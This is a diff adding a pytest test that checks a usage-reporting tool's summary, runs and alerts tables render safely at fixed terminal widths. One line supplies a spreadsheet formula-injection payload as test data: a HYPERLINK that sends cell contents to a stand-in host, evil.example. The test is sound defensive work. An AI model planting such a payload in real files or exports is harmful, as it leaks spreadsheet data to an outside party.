@@ -212,6 +212,29 @@ def test_compact_tables_fit_the_terminal(hostile, width):
         assert all(c.header in wide for c in view.columns), f"{view.name}: --wide lacks a column"
 
 
+@pytest.mark.parametrize("width", [80, 120])
+def test_summary_runs_and_alerts_fit_the_terminal(hostile, width):
+    """`summary`'s day, model, workspace and key tables, `runs` and `alerts` (days and budgets) at 80 and 120 columns."""
+    from usage_lake.alerts import Alerting
+    from usage_lake.config.budgets import parse_budgets
+    from usage_lake.reporting import recent_runs, spend_and_tokens
+
+    org, lake = hostile
+    days = [TODAY - timedelta(days=i) for i in range(6, -1, -1)]
+    assert_safe_text(spend_and_tokens(lake, days, today=TODAY, width=width), "summary", width=width)
+    assert_safe_text(recent_runs(lake, width=width), "runs", width=width)
+    budgets = parse_budgets(json.dumps({"budgets": [{"name": "a-rather-long-budget-name-for-the-growth-team", "period": "monthly",
+                                         "amount": "100", "scope": {"workspace": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"}},
+                                        {"name": "tokens", "period": "weekly", "measure": "output_tokens", "amount": "1000000"}]}))
+    settings = Settings(daily_spend_threshold_usd=Decimal(1), monthly_budget_usd=Decimal(100))
+    alerting = Alerting(lake, settings, publisher=None, run_id="status", clock=lambda: NOW, budgets=budgets)
+    text = "\n".join(alerting.status(days, NOW, width=width))
+    assert_safe_text(text, "alerts", width=width)
+    assert "WOULD FIRE" in text and "Budgets (each open period):" in text
+    wide = "\n".join(alerting.status(days, NOW, wide=True))
+    assert "priority est." in wide and "forecast" in wide
+
+
 def test_the_html_report_renders_without_aborting(hostile, tmp_path):
     """The chart renderer aborted the process (SIGABRT) on a control character; the page is escaped and safe."""
     org, lake = hostile
